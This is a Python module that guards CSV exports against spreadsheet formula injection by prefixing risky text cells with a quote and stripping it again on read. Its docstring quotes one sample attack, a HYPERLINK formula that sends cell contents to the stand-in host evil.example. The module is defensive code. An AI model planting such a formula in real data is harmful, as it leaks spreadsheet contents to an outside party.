"""Text cells of the CSV files roster writes, safe to open in a spreadsheet, and read
back as they were.

A spreadsheet takes a cell that begins with `=`, `+`, `-` or `@` (or a tab or a
carriage return before one) for a formula: a person named
`=HYPERLINK("http://evil.example/?leak="&A1,"click me")` would be a link that sends the
sheet's cells away. As OWASP advises (CSV injection), such a text cell is written with a
single quote before it, which a spreadsheet shows as text and does not evaluate. Only
text is changed: numbers (`-3`) are written as they are.

Reading our own files back takes the quote off again. It is added before any quotes a
text already begins with (`'=x` is written `''=x`), so that reading back is exact: the
text read is always the text written.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from typing import Any

FORMULA_STARTS = "=+-@\t\r"
"""The first characters that make a spreadsheet read a cell as a formula."""
_FORMULA = re.compile(r"'*[=+\-@\t\r]")


def to_cell(text: str) -> str:
    """`text` as a CSV cell: with a quote before it when it would begin a formula."""
    return "'" + text if _FORMULA.match(text) else text


def from_cell(cell: str) -> str:
    """The text a cell written by `to_cell` holds."""
    return cell[1:] if cell.startswith("'") and _FORMULA.match(cell, 1) else cell


def safe_row(row: Mapping[str, Any]) -> dict[str, Any]:
    """A row for `csv.DictWriter` with its text cells made safe (numbers left alone)."""
    return {key: to_cell(value) if isinstance(value, str) else value for key, value in row.items()}


def restored_row(row: Mapping[str, str]) -> dict[str, str]:
    """A row as `csv.DictReader` read it from our file, each cell's text as written."""
    return {
        key: from_cell(value) if isinstance(value, str) else value for key, value in row.items()
    }
